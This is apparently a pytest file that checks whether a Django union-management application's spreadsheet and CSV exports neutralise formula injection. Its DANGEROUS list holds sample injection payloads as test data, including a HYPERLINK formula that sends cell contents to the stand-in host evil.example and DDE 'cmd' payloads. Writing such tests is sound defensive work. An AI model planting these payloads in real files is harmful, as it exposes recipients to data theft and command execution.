"""Formula injection: every .xlsx and .csv that zhijia hands out, fetched through its real
endpoint or command, holds text that starts with = + - @ tab or CR as text, never a formula.

A name, a job, a unit, a ledger description, a candidate or an invalid import value that
starts with one of those characters is written in; the file is read back (openpyxl, csv) and
each such cell must be the quoted text: in an .xlsx a string cell with Excel's quote prefix
and no <f> element anywhere in the workbook; in a .csv the text behind a leading apostrophe.
The writers are zhijia.core.excel and zhijia.core.csvfile (docs/security.md, "Exports").
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import unicodedata
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command

from zhijia.org.models import OrgUnit
from zhijia.org.tests.member_factory import make_member

pytestmark = pytest.mark.django_db

# One of each character a spreadsheet reads as the start of a formula (and a full-width one).
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
# Values the way forms and the roster import keep them (surrounding whitespace stripped).
STRIPPED = list(dict.fromkeys(t.strip() for t in DANGEROUS))
# ... and as the roster import reports them (full-width characters made half-width).
IMPORTED = list(dict.fromkeys(unicodedata.normalize("NFKC", t) for t in STRIPPED))


def _workbook_has_no_formula(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def _read_back(text: str) -> tuple[str, str]:
    # openpyxl's own XML writer leaves a carriage return bare, which XML reads as a line feed;
    # its lxml writer (lxml is installed with python-docx) escapes it (&#13;) and it reads back.
    return text, text.replace("\r", "\n")


def assert_xlsx_neutralised(data: bytes, texts: list[str]) -> None:
    """Every text of `texts` is in the workbook as a quoted string cell; no cell of the
    workbook is a formula."""
    _workbook_has_no_formula(data)
    cells = {}
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cells.setdefault(cell.value, cell)
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    for text in texts:
        cell = next((cells[t] for t in _read_back(text) if t in cells), None)
        assert cell is not None, (text, sorted(cells)[:40])
        assert cell.data_type == "s" and cell.quotePrefix, text


def _streamed(response) -> bytes:
    if not response.streaming:
        return response.content
    content = b"".join(response.streaming_content)
    for close in response._resource_closers:  # the file, as the WSGI server would
        close()
    return content


def test_roster_export(login, personas, demo_units):
    for i, text in enumerate(DANGEROUS):
        member = make_member("B1-G1", name=text, phone="")
        member.job = DANGEROUS[-1 - i]
        member.save(update_fields=["job"])
    response = login("chair").get("/org/members/export/")
    assert response.status_code == 200
    data = _streamed(response)
    assert_xlsx_neutralised(data, DANGEROUS)
    # Numbers stay numbers: the wage column holds numbers, not quoted text.
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    wages = [row[10] for row in sheet.iter_rows(min_row=2, values_only=True) if row[10]]
    assert wages and all(isinstance(w, int | float) for w in wages)


def test_arrears_export(login, personas, demo_units):
    from zhijia.org.actions.dues import do_generate_dues

    unit = demo_units["B3-G1"]
    for text in DANGEROUS:
        make_member(unit, name=text)
    month = dt.date(2025, 3, 1)
    do_generate_dues(actor=personas["chair"], unit=unit, month=month)
    response = login("chair").get("/org/dues/arrears/export/")
    assert response.status_code == 200
    assert_xlsx_neutralised(_streamed(response), DANGEROUS)


def test_transfers_out_export(login, personas, demo_units):
    from zhijia.org.actions.members import do_transfer_member

    unit = demo_units["B3-G1"]
    for text in DANGEROUS:
        member = make_member(unit, name=text)
        do_transfer_member(
            actor=personas["chair"],
            member=member,
            to_unit=demo_units["B1"],
            effective_date=dt.date(2025, 3, 1),
            reason=text,
        )
    response = login("chair").get(f"/org/members/transfers-out/export/?unit={unit.pk}")
    assert response.status_code == 200
    assert_xlsx_neutralised(_streamed(response), DANGEROUS)


def test_dues_paid_export(login, personas, demo_units):
    from zhijia.org.actions.dues import do_generate_dues, do_record_dues_payment
    from zhijia.org.models import DuesRecord

    unit = demo_units["B3-G1"]
    members = [make_member(unit, name=text) for text in DANGEROUS]
    month = dt.date(2025, 3, 1)
    do_generate_dues(actor=personas["chair"], unit=unit, month=month)
    records = list(DuesRecord.objects.filter(member__in=members, month=month))
    assert len(records) == len(members)
    do_record_dues_payment(actor=personas["chair"], records=records)
    response = login("chair").get("/org/dues/paid/export/")
    assert response.status_code == 200
    assert_xlsx_neutralised(_streamed(response), DANGEROUS)


def _roster_csv(values: list[str]) -> bytes:
    from zhijia.org import normalize as n

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(n.COLUMNS)
    for i, value in enumerate(values):
        row = {c: "" for c in n.COLUMNS}
        row.update(
            {
                n.EMPLOYEE_NO: f"X{i:04d}",
                n.NAME: "王五",
                n.ID_NUMBER: "110101199003070010",
                n.JOIN_DATE: value,  # not a date: reported with its value
            }
        )
        writer.writerow([row[c] for c in n.COLUMNS])
    return out.getvalue().encode("utf-8")


def _report_values(data: bytes) -> list[str]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [row[2] for row in sheet.iter_rows(min_row=2, values_only=True)]


def test_import_error_report_page(login):
    client = login("branch1")
    upload = SimpleUploadedFile("花名册.csv", _roster_csv(DANGEROUS))
    response = client.post("/org/members/import/", {"file": upload})
    assert response.status_code == 200
    token = response.context["report_token"]
    report = client.get(f"/org/members/import/report/{token}/")
    assert report.status_code == 200
    data = _streamed(report)
    assert set(IMPORTED) <= set(_report_values(data))
    assert_xlsx_neutralised(data, IMPORTED)


def test_import_error_report_command(demo_units, tmp_path):
    source = tmp_path / "roster.csv"
    source.write_bytes(_roster_csv(DANGEROUS))
    report = tmp_path / "errors.xlsx"
    with pytest.raises(SystemExit):
        call_command(
            "import_members",
            str(source),
            "--report",
            str(report),
            stdout=io.StringIO(),
            stderr=io.StringIO(),
        )
    assert_xlsx_neutralised(report.read_bytes(), IMPORTED)


def test_safety_tally_export(login, personas, demo_units):
    for code, text in zip(("B1", "B2", "B3"), DANGEROUS, strict=False):
        OrgUnit.objects.filter(code=code).update(name=text)
    response = login("chair").get(f"/safety/tally/export/?year={dt.date.today().year}")
    assert response.status_code == 200
    assert_xlsx_neutralised(response.content, DANGEROUS[:3])


def test_assistance_statement_export(login, personas):
    from zhijia.assistance.tests.support import make_campaign

    campaign = make_campaign(personas["chair"], income="1000")
    chair = login("chair")
    url = f"/assistance/funds/{campaign.fund_id}/"
    for text in DANGEROUS:
        response = chair.post(
            f"{url}income/",
            {"kind": "donation", "amount": "1", "description": text, "counterparty": text},
        )
        assert response.status_code == 302, response.content.decode()[:500]
    month = dt.date.today().strftime("%Y-%m")
    export = chair.get(f"{url}statement/export/?month={month}")
    assert export.status_code == 200
    data = export.content
    # Form fields are stripped of surrounding whitespace: the tab and CR cases arrive as "=1+1".
    assert_xlsx_neutralised(data, STRIPPED)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    amounts = [r[5] for r in sheet.iter_rows(min_row=11, values_only=True) if r[5] is not None]
    assert amounts and all(isinstance(a, int | float) for a in amounts)


def _post(client, url, data=None):
    return client.post(url, data=json.dumps(data or {}), content_type="application/json")


def test_poll_choices_csv(api_client, login, personas, demo_units):
    api = "/api/v1/voting"
    chair = api_client("chair")
    # Candidates are lines of a form on the page; through the API each is one string.
    candidates = STRIPPED[:4] + ["张三"]
    created = _post(
        chair,
        f"{api}/polls",
        {
            "title": "选举",
            "kind": "approval",
            "unit_id": demo_units["U"].pk,
            "candidates": candidates,
            "seats": 5,
        },
    )
    assert created.status_code == 201, created.content
    poll_id = created.json()["id"]
    assert _post(chair, f"{api}/polls/{poll_id}/open", {"source": "members"}).status_code == 200
    voters = ["chair", "branch1", "branch2", "rep1", "worker1"]
    for number, who in enumerate(voters, start=1):
        cast = _post(api_client(who), f"{api}/polls/{poll_id}/cast", {"choice": [str(number)]})
        assert cast.status_code == 200, cast.content
    assert _post(chair, f"{api}/polls/{poll_id}/close").status_code == 200

    client = login("worker1")
    response = client.get(f"/voting/{poll_id}/choices.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    labels = sorted(r[1] for r in rows[1:])
    assert labels == sorted(["'" + c for c in candidates[:4]] + ["张三"])
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell
    trackers = client.get(f"/voting/{poll_id}/trackers.csv")
    assert trackers.status_code == 200 and trackers["Cache-Control"] == "no-store"


# Files that may write spreadsheets themselves: the two writers, and the disclosure module's
# canonical CSV *text* of a table kept in the database (shown as HTML, never handed out).
WRITERS = {"zhijia/core/excel.py", "zhijia/core/csvfile.py", "zhijia/disclosure/text.py"}


def test_no_export_bypasses_the_shared_writers():
    """A new export written with csv.writer or openpyxl directly would escape the tests above."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    found = []
    for path in sorted((root / "zhijia").rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if "/tests/" in relative or relative in WRITERS:
            continue
        text = path.read_text(encoding="utf-8")
        for needle in ("csv.writer(", "csv.DictWriter(", "Workbook(", "WriteOnlyCell("):
            if needle in text:
                found.append(f"{relative}: {needle}")
    assert found == []
